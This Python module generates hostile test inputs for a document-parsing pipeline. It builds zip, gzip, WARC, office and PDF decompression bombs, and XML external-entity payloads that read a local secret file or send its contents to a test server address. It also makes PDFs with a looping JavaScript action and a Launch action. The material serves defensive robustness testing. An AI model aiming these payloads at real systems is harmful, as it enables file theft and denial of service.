"""Few bytes that cost very much, and XML that reads the files of its reader."""

from __future__ import annotations

import bz2
import gzip
import struct
import zlib
from collections.abc import Callable
from functools import cache

from . import build as b
from .inputs import CUT, DAMAGED, DYING, EMPTY, HEAVY, TAKEN, Input, Site, given, no

MIB = 1024 * 1024
BOMB = no("bomb")


@cache
def zeros(mib: int) -> bytes:
    """Return so many MiB of zeros, packed by zlib."""
    engine = zlib.compressobj(9)
    out = b"".join(engine.compress(bytes(MIB)) for _ in range(mib))
    return out + engine.flush()


@cache
def gzip_zeros(mib: int) -> bytes:
    """Return so many MiB of zeros in parts of 16 MiB."""
    return gzip.compress(bytes(16 * MIB), 9, mtime=0) * (mib // 16)


@cache
def bzip2_zeros(mib: int) -> bytes:
    return bz2.compress(bytes(16 * MIB)) * (mib // 16)


@cache
def brotli_zeros(mib: int) -> bytes:
    import brotli

    return bytes(brotli.compress(bytes(mib * MIB), quality=2))


# zip files


def overlapping(copies: int) -> bytes:
    """Return a zip file whose directory names one member many times."""
    data = b.zipped({"kernel.txt": b"kernel " * 40_000})
    at = data.index(b"PK\x01\x02")
    entry = data[at : data.index(b"PK\x05\x06")]
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, copies, copies, len(entry) * copies, at, 0)
    return data[:at] + entry * copies + end


def quoted(copies: int) -> bytes:
    """Return a zip file each of whose members takes in the headers of those after it."""
    kernel = zlib.compressobj(9, zlib.DEFLATED, -15)
    packed = kernel.compress(bytes(MIB)) + kernel.flush()
    check = zlib.crc32(bytes(MIB))
    out, entries = b"", b""
    for n in range(copies):
        name = b"%05d" % n
        fields = (20, 0, 8, 0, 0x5264, check, len(packed) + 35 * (copies - n), MIB, 5, 0)
        head = struct.pack("<4s5H3L2H", b"PK\x03\x04", *fields) + name
        entries += struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, *fields[:9], 0, 0, 0, 0, 0, len(out)
        )
        entries += name
        out += head
    out += packed
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, copies, copies, len(entries), len(out), 0)
    return out + entries + end


def many_entries(count: int) -> bytes:
    name = b"n%05d"
    local = [
        struct.pack("<4s5H3L2H", b"PK\x03\x04", 20, 0, 0, 0, 0x5264, 0, 0, 0, 6, 0) + name % n
        for n in range(count)
    ]
    entries = [
        struct.pack(
            "<4s6H3L5H2L", b"PK\x01\x02", 20, 20, 0, 0, 0, 0x5264, 0, 0, 0, 6, 0, 0, 0, 0, 0, n * 36
        )
        + name % n
        for n in range(count)
    ]
    start, size = count * 36, len(entries) * 52
    told = min(count, 0xFFFF)
    end = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, told, told, size, start, 0)
    return b"".join(local) + b"".join(entries) + end


def lying_count() -> bytes:
    data = bytearray(b.zipped({"a.html": b.page("lyingcount")}))
    at = data.index(b"PK\x05\x06")
    data[at + 8 : at + 12] = b"\xff\x7f\xff\x7f"
    return bytes(data)


def huge_64() -> bytes:
    """Return a zip file that claims a directory of 2^60 bytes."""
    data = b.zipped({"a.html": b.page("huge64")})
    at = data.index(b"PK\x05\x06")
    end = struct.pack(
        "<4sQ2H2L4Q", b"PK\x06\x06", 44, 45, 45, 0, 0, 1 << 60, 1 << 60, 1 << 60, 1 << 60
    )
    locator = struct.pack("<4sLQL", b"PK\x06\x07", 0, at, 1)
    return data[:at] + end + locator + data[at:]


BOMBS = given(
    "bombs",
    BOMB,
    **{
        "ratio.zip": lambda: b.zipped({"zeros.txt": bytes(64 * MIB)}),
        "much.docx": lambda: b.docx(b.para("x"), media=bytes(64 * MIB)),
        "overlap.zip": lambda: overlapping(5_000),
        "quoted.zip": lambda: quoted(250),
        "gibibyte.gz": lambda: gzip_zeros(1024),
        "gibibyte.bz2": lambda: bzip2_zeros(1024),
    },
)
BOMBS += given("bombs", no("too-large"), **{"entries-100000.zip": lambda: many_entries(100_000)})
BOMBS += given(
    "bombs",
    TAKEN | HEAVY,
    **{
        "lying-count.zip": lying_count,
        "huge-64.zip": huge_64,
        "empty-parts.gz": lambda: (
            b.gzipped(b.page("emptyparts")) + gzip.compress(b"", mtime=0) * 50_000
        ),
        "bomb-inside.zip": lambda: b.zipped(
            {"a.html": b.page("beside"), "b.zip": b.zipped({"zeros.txt": bytes(48 * MIB)})}
        ),
        "bomb-attached.eml": lambda: b.mail_of(
            f"Content-Type: text/plain\r\n\r\n{b.PROSE}",
            "Content-Type: application/gzip\r\nContent-Disposition: attachment; filename=a.gz\r\n"
            f"Content-Transfer-Encoding: base64\r\n\r\n{base64(gzip_zeros(64))}",
        ),
    },
)
"""What holds a bomb beside other things is taken without it."""


def base64(data: bytes) -> str:
    from base64 import encodebytes

    return encodebytes(data).decode()


# web archives

BOMBS += given(
    "bombs",
    CUT | HEAVY,
    **{
        "brotli.warc": lambda: (
            b.warc(b.page("besidebrotli"))
            + b.response(brotli_zeros(320), "https://example.org/b", Content_Encoding="br")
        ),
        "gzip.warc": lambda: (
            b.warc(b.page("besidegzip"))
            + b.response(gzip_zeros(512), "https://example.org/g", Content_Encoding="gzip")
        ),
        "deflate.warc": lambda: (
            b.warc(b.page("besidedeflate"))
            + b.response(zeros(512), "https://example.org/d", Content_Encoding="deflate")
        ),
        "gzip-twice.warc": lambda: (
            b.warc(b.page("besidetwice"))
            + b.response(
                gzip.compress(gzip_zeros(1024), mtime=0),
                "https://example.org/t",
                Content_Encoding="gzip, gzip",
            )
        ),
        "zeros.warc.gz": lambda: (
            b.warc(b.page("besidezeros"), packed=True)
            + b.gzipped(b.response(bytes(48 * MIB), "https://example.org/z"))
        ),
        "length-10-18.warc": lambda: (
            b.warc(b.page("besidelength"))
            + b.response(b.page("toolong")).replace(
                b"Content-Length: ", b"Content-Length: 1000000000000"
            )
        ),
        "length-minus.warc": lambda: (
            b.warc(b.page("besideminus"))
            + b.response(b.page("minus")).replace(b"Content-Length: ", b"Content-Length: -")
        ),
        "chunks.warc": lambda: (
            b.warc(b.page("besidechunks"))
            + b.response(
                b"ffffffffffffffff\r\nabc", "https://example.org/c", Transfer_Encoding="chunked"
            )
        ),
        "header-without-end.warc": lambda: (
            b.warc(b.page("besideheader"))
            + b"WARC/1.1\r\nWARC-Type: response\r\nX: "
            + b"y" * 5_000_000
        ),
    },
)
BOMBS += given(
    "bombs",
    TAKEN | HEAVY,
    **{
        "records-30000.warc": lambda: (
            b.info()
            + b.record("resource", b"", "https://example.org/r", Content_Type="text/html") * 30_000
        ),
        "header-lines-200000.warc": lambda: b.warc(b.page("besidelines")).replace(
            b"WARC-Date", b"X: y\r\n" * 200_000 + b"WARC-Date", 1
        ),
    },
)

# office files


def heavy_rows(count: int) -> str:
    return "".join(
        f'<row r="{n}"><c r="A{n}" t="inlineStr"><is><t>word {n}</t></is></c>'
        f'<c r="B{n}"><v>{n}</v></c></row>'
        for n in range(1, count)
    )


BOMBS += given(
    "bombs",
    TAKEN | HEAVY,
    **{
        "cells-43-mib.xlsx": lambda: b.xlsx(heavy_rows(470_000)),
        "far-cell.xlsx": lambda: b.xlsx(
            b.rows("farcell") + '<row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
        ),
        "far-dimension.xlsx": lambda: b.xlsx_of(
            b.xlsx_sheet(b.rows("fardimension")).replace(
                b"<sheetData>", b'<dimension ref="A1:XFD1048576"/><sheetData>'
            )
        ),
        "beyond-cell.xlsx": lambda: b.xlsx(
            b.rows("beyondcell") + '<row r="99999999"><c r="ZZZZZZ99999999"><v>1</v></c></row>'
        ),
        "strings-few.xlsx": lambda: b.xlsx(
            "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 2_000)),
            f"<si><t>{'long string ' * 800}</t></si>",
        ),
        "columns-wide.xlsx": lambda: b.xlsx(
            "".join(f'<row r="{n}"><c r="XFD{n}"><v>1</v></c></row>' for n in range(1, 3_000))
        ),
        "merged.xlsx": lambda: b.xlsx_of(
            b.xlsx_sheet(b.rows("merged")).replace(
                b"</worksheet>",
                b'<mergeCells count="100000">'
                + b'<mergeCell ref="A1:XFD1048576"/>' * 100_000
                + b"</mergeCells></worksheet>",
            )
        ),
        "repeated-rows.ods": lambda: b.ods(
            b.ods_rows("repeatedrows")
            + b.ods_row("again", repeated=' table:number-rows-repeated="1048576"')
        ),
        "repeated-cells.ods": lambda: b.ods(
            b.ods_rows("repeatedcells")
            + "<table:table-row table:number-rows-repeated='1048000'><table:table-cell "
            "table:number-columns-repeated='16384' office:value-type='string'><text:p>x</text:p>"
            "</table:table-cell></table:table-row>"
        ),
        "repeated-odd.ods": lambda: b.ods(
            b.ods_rows("repeatedodd")
            + b.ods_row("again", repeated=' table:number-rows-repeated="-5"')
            + b.ods_row("and", repeated=f' table:number-rows-repeated="{"9" * 5000}"')
        ),
        "spans.docx": lambda: b.docx(
            b.para("spans")
            + "<w:tbl>"
            + '<w:tr><w:tc><w:tcPr><w:gridSpan w:val="2000000000"/></w:tcPr><w:p/></w:tc></w:tr>'
            * 999
            + "</w:tbl>"
        ),
        "runs-300000.docx": lambda: b.docx(
            "<w:p>" + "<w:r><w:t>a </w:t></w:r>" * 300_000 + "</w:p>"
        ),
        "attributes-100000.docx": lambda: b.docx(
            "<w:p " + " ".join(f"a{n}='1'" for n in range(100_000)) + "/>" + b.para("attributes")
        ),
    },
)

BOMBS += given(
    "bombs",
    TAKEN | DYING,
    **{
        "strings.xlsx": lambda: b.xlsx(
            "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 2_000)),
            f"<si><t>{'long string ' * 80_000}</t></si>",
        ),
        "repeated-spaces.ods": lambda: b.ods(
            b.ods_rows("repeatedspaces")
            + '<table:table-row><table:table-cell office:value-type="string"><text:p>a'
            '<text:s text:c="2000000000"/>b</text:p></table:table-cell></table:table-row>'
        ),
    },
)

# XML that grows, and XML that reads


def laughs(end: str = "&lol9;") -> tuple[str, str]:
    tens = [f"&lol{n - 1};" * 10 for n in range(1, 10)]
    steps = "".join(f'<!ENTITY lol{n} "{ten}">' for n, ten in enumerate(tens, 1))
    return f'<!DOCTYPE lolz [<!ENTITY lol0 "lol">{steps}]>', end


def growing() -> tuple[str, str]:
    return f'<!DOCTYPE d [<!ENTITY a "{"quadratic " * 10_000}">]>', "&a;" * 10_000


def reading(site: Site) -> tuple[str, str]:
    return f'<!DOCTYPE d [<!ENTITY a SYSTEM "{site.secret.as_uri()}">]>', "&a;"


def calling(site: Site) -> tuple[str, str]:
    return (
        f'<!DOCTYPE d SYSTEM "{site.address}evil.dtd" [<!ENTITY % p SYSTEM "{site.address}p">%p;'
        f'<!ENTITY a SYSTEM "{site.address}a">]>',
        "&a;",
    )


def parametric(site: Site) -> tuple[str, str]:
    return (
        f'<!DOCTYPE d [<!ENTITY % f SYSTEM "{site.secret.as_uri()}"><!ENTITY % e "<!ENTITY a '
        f"SYSTEM '{site.address}?x=%f;'>\">%e;]>",
        "&a;",
    )


TRICKS: dict[str, Callable[[Site], tuple[str, str]]] = {
    "laughs": lambda site: laughs(),
    "growing": lambda site: growing(),
    "reads": reading,
    "calls": calling,
    "parametric": parametric,
}


def raw(text: str) -> str:
    return f"<w:p><w:r><w:t>A paragraph. {text}</w:t></w:r></w:p>"


CARRIERS: dict[str, Callable[[str, str], bytes]] = {
    "docx": lambda doctype, end: b.docx(b.para(b.PROSE) + raw(end), doctype),
    "xlsx": lambda doctype, end: b.xlsx(
        b.rows("carrier") + f'<row r="90"><c r="A90" t="inlineStr"><is><t>{end}</t></is></c></row>',
        before=doctype,
    ),
    "ods": lambda doctype, end: b.ods(
        b.ods_rows("carrier")
        + f"<table:table-row><table:table-cell office:value-type='string'><text:p>{end}</text:p>"
        "</table:table-cell></table:table-row>",
        doctype,
    ),
    "rss": lambda doctype, end: b.rss(b.item("A title", b.PROSE + end), doctype),
    "atom": lambda doctype, end: (
        f'<?xml version="1.0"?>{doctype}<feed xmlns="http://www.w3.org/2005/Atom">'
        f"<title>Notices</title><entry><title>One</title><content>{b.PROSE}{end}</content>"
        "</entry></feed>"
    ).encode(),
    "html": lambda doctype, end: (
        f'<?xml version="1.0"?>{doctype}<html xmlns="http://www.w3.org/1999/xhtml"><body>'
        f"<p>{b.PROSE}{end}</p></body></html>"
    ).encode(),
}


def trick(carrier: str, name: str) -> Callable[[Site], bytes]:
    return lambda site: CARRIERS[carrier](*TRICKS[name](site))


XML_TRICKS = [
    Input(
        name=f"xml-{name}.{carrier}",
        group="xml",
        allowed=TAKEN | DAMAGED | HEAVY | EMPTY | no("unknown-format"),
        make=trick(carrier, name),
        lacks=("lollollol",),
        seconds=20,
    )
    for carrier in CARRIERS
    for name in TRICKS
]
XML_TRICKS += given(
    "xml",
    TAKEN | DAMAGED,
    **{
        "properties-read.docx": lambda site: b.docx_with_properties(
            f'<!DOCTYPE d [<!ENTITY a SYSTEM "{site.secret.as_uri()}">]>', "&a;"
        ),
        "strings-read.xlsx": lambda site: b.xlsx_with_strings(
            f'<!DOCTYPE d [<!ENTITY a SYSTEM "{site.secret.as_uri()}">]>', "&a;"
        ),
        "xinclude.docx": lambda site: b.docx(
            b.para("xinclude")
            + '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" '
            f'href="{site.secret.as_uri()}"/>'
        ),
        "stylesheet.rss": lambda site: b.rss(
            b.item("styled"), f'<?xml-stylesheet type="text/xsl" href="{site.secret.as_uri()}"?>'
        ),
        "drawing-read.html": lambda site: b.page(
            "drawing",
            f'<svg><image href="{site.secret.as_uri()}"/><text>seen</text></svg>'
            f'<object data="{site.secret.as_uri()}"></object>'
            f'<iframe src="{site.secret.as_uri()}"></iframe>'
            f'<link rel="import" href="{site.address}import">',
        ),
    },
)

# PDF


def many_pages(count: int) -> bytes:
    kids = " ".join(f"{n + 5} 0 R" for n in range(count))
    start = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] "
    filled = start + b"/Contents 4 0 R /Resources << /Font << /F1 3 0 R >> >> >>"
    return b.pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            f"<< /Type /Pages /Count {count} /Kids [{kids}] >>".encode(),
            b.FONT,
            b.stream(b.text_at("The first of very many pages.")),
            filled,
            *[start + b">>"] * (count - 1),
        ]
    )


def circular_tables() -> bytes:
    data = b.pdf(b.text_at("Circular tables."))
    start = data.rindex(b"startxref")
    place = data[start:].split()[1]
    return data.replace(b"trailer\n<<", b"trailer\n<< /Prev " + place)


def circular_tree() -> bytes:
    return b.pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 3 /Kids [3 0 R 2 0 R] >>",
            b"<< /Type /Pages /Count 3 /Kids [2 0 R 3 0 R] /Parent 2 0 R >>",
        ]
    )


def cmap_bomb() -> bytes:
    ranges = "".join(
        f"100 beginbfrange\n{'<0000> <ffff> <0000>' * 100}\nendbfrange\n" for _ in range(300)
    )
    cmap = f"/CIDInit /ProcSet findresource begin\nbegincmap\n{ranges}endcmap\nend".encode()
    font = (
        b"<< /Type /Font /Subtype /Type0 /BaseFont /A /Encoding /Identity-H /ToUnicode 4 0 R "
        b"/DescendantFonts [<< /Type /Font /Subtype /CIDFontType2 /BaseFont /A "
        b"/CIDSystemInfo << /Registry (Adobe) /Ordering (Identity) /Supplement 0 >> >>] >>"
    )
    return b.pdf(b.text_at("CMap"), font=font, more=[b.flated(cmap)])


def picture(wide: int, high: int) -> bytes:
    """Return a page with a picture of one colour that unfolds to wide x high x 3 bytes."""
    packed = zeros(64)
    image = b.stream(
        packed,
        f"/Type /XObject /Subtype /Image /Width {wide} /Height {high} /ColorSpace /DeviceRGB "
        "/BitsPerComponent 8 /Filter /FlateDecode /DecodeParms << /Predictor 15 /Colors 3 "
        f"/Columns {wide} >>",
    )
    content = b.text_at("A picture.") + b"1 1 1 rg " + b.text_at("pale", y=500)
    return b.pdf(
        content + b"q 600 0 0 700 0 0 cm /Im1 Do Q",
        more=[image],
        resources="/XObject << /Im1 4 0 R >>",
    )


def object_stream() -> bytes:
    inner = stream_of_objects(200_000)
    data = b.pdf(b.text_at("Object stream."), more=[inner])
    return data


def stream_of_objects(count: int) -> bytes:
    head = " ".join(f"{n + 100} {n * 2}" for n in range(count)).encode()
    packed = zlib.compress(head + b" " + b"1 " * count, 9)
    return b.stream(packed, f"/Type /ObjStm /N {count} /First {len(head) + 1} /Filter /FlateDecode")


PDF = given(
    "bombs",
    TAKEN | DYING | EMPTY,
    **{
        "flate.pdf": lambda: b.pdf(b.stream(zeros(512), "/Filter /FlateDecode")),
        "flate-twice.pdf": lambda: b.pdf(
            b.stream(zlib.compress(zeros(1024), 9), "/Filter [/FlateDecode /FlateDecode]")
        ),
        "flate-text.pdf": lambda: b.pdf(b.flated(b.text_at("bomb") * 300_000)),
        "filters-5000.pdf": lambda: b.pdf(b.stream(b"x", f"/Filter [{'/FlateDecode ' * 5_000}]")),
        "run-length.pdf": lambda: b.pdf(
            b.stream(b"\x81 " * 2_000_000 + b"\x80", "/Filter /RunLengthDecode")
        ),
        "cmap.pdf": cmap_bomb,
        "circular-tables.pdf": circular_tables,
        "circular-tree.pdf": circular_tree,
        "count-lies.pdf": lambda: b.pdf(b.text_at("Counted.")).replace(
            b"/Count 1 ", b"/Count 2147483647 "
        ),
        "count-minus.pdf": lambda: b.pdf(b.text_at("Counted.")).replace(
            b"/Count 1 ", b"/Count -7 "
        ),
        "picture-60000.pdf": lambda: picture(60_000, 60_000),
        "huge-page.pdf": lambda: b.pdf(
            b"1 1 1 rg " + b.text_at("Pale words on a very large page."), size="0 0 9e9 9e9"
        ),
        "odd-page.pdf": lambda: b.pdf(b.text_at("Odd page."), size="NaN -1 0 1e400"),
        "object-stream.pdf": object_stream,
        "many-letters.pdf": lambda: b.pdf(b.flated(b.text_at("x" * 60_000) * 30)),
        "same-content-2000.pdf": lambda: many_alike(2_000),
        "script.pdf": lambda: b.pdf(b.text_at("Script.")).replace(
            b"/Type /Catalog",
            b"/Type /Catalog /OpenAction << /S /JavaScript /JS (while(1){app.alert(1)}) >>",
        ),
        "launch.pdf": lambda: b.pdf(b.text_at("Launch.")).replace(
            b"/Type /Catalog",
            b"/Type /Catalog /OpenAction << /S /Launch /F (touch) /P (canary) >>",
        ),
    },
)
PDF += given("bombs", CUT | HEAVY, **{"pages-20000.pdf": lambda: many_pages(20_000)})
PDF += given(
    "xml",
    TAKEN | DAMAGED | EMPTY,
    **{
        "form-reads.pdf": lambda site: b.pdf(
            b.text_at("A form."),
            more=[
                b.stream(
                    f'<!DOCTYPE x [<!ENTITY a SYSTEM "{site.secret.as_uri()}">]>'
                    '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template>&a;</template>'
                    "</xdp:xdp>".encode()
                )
            ],
        ).replace(b"/Type /Catalog", b"/Type /Catalog /AcroForm << /XFA 4 0 R /Fields [] >>"),
        "external-stream.pdf": lambda site: b.pdf(
            b.stream(b"", f"/F ({site.secret}) /FFilter /None") + b""
        ),
    },
)


def many_alike(count: int) -> bytes:
    """Return pages that all show one long content stream."""
    content = b.flated(b.lines_of(b.PROSE * 6))
    kids = " ".join(f"{n + 5} 0 R" for n in range(count))
    page = (
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Contents 4 0 R "
        b"/Resources << /Font << /F1 3 0 R >> >> >>"
    )
    return b.pdf_of(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            f"<< /Type /Pages /Count {count} /Kids [{kids}] >>".encode(),
            b.FONT,
            content,
            *[page] * count,
        ]
    )


# pages and text

TEXT = given(
    "bombs",
    TAKEN | HEAVY,
    **{
        "attributes-100000.html": lambda: b.page(
            "attributes", f"<p {' '.join(f'a{n}=1' for n in range(100_000))}>many</p>"
        ),
        "attributes-100000-each.html": lambda: b.page(
            "attributes", "".join(f"<p a{n}=1>x</p>" for n in range(100_000))
        ),
        "unclosed-240-kb.html": lambda: b.page("unclosed", "<a><b><i>" * 27_000),
        "breaks-1000000.html": lambda: b.page("breaks", "<br>" * 1_000_000),
        "tables-50000.html": lambda: b.page("tables", "<table><tr><td>a<td>b</table>" * 50_000),
        "entities-500000.html": lambda: b.page("entities", "<p>" + "&amp;&#x41;" * 250_000),
        "long-word.html": lambda: b.page("word", f"<p>{'a' * 5_000_000}</p>"),
        "long-style.html": lambda: b.page("style", f"<p style='{'a:b;' * 400_000}'>x</p>"),
        "comment-open.html": lambda: b.page("comment", "<!--" * 200_000),
        "cells-span.html": lambda: b.page(
            "spans",
            "<table>" + "<tr><td colspan=1000 rowspan=65534>a</td></tr>" * 500 + "</table>",
        ),
        "cells-6-mib.csv": lambda: ("a,b,c\n" + "1,2,3\n" * 1_000_000).encode(),
        "one-line.csv": lambda: ("a,b\n" + "x," * 3_000_000).encode(),
        "quotes-open.csv": lambda: ("a,b\n" + '"x,y\n' * 100_000).encode(),
        "quotes-one.csv": lambda: ("a,b\n1,2\n3,4\n" + '"' + "5,6\n" * 5_000).encode(),
        "spaces.txt": lambda: b" " * 8_000_000 + b"x",
        "line-ends.txt": lambda: b"\n" * 8_000_000 + b"x",
        "one-word.txt": lambda: b"a" * 8_000_000,
        "sixty-mib.txt": lambda: (b.PROSE * 30).encode() * 8_500,
        "combining.txt": ("a" + "\u0301" * 300_000 + " " + b.PROSE),
        "entries-50000.rss": lambda: b.rss("".join(b.item(f"{n}", "x") for n in range(50_000))),
        "entries-20000.bib": lambda: b.bibtex("many") * 3_000,
        "entries-60000.ris": lambda: b.ris("many") * 10_000,
        "entries-50000.json": lambda: b.csl(*[b.csl_item("many")] * 50_000),
    },
)

ALL = [*BOMBS, *XML_TRICKS, *PDF, *TEXT]
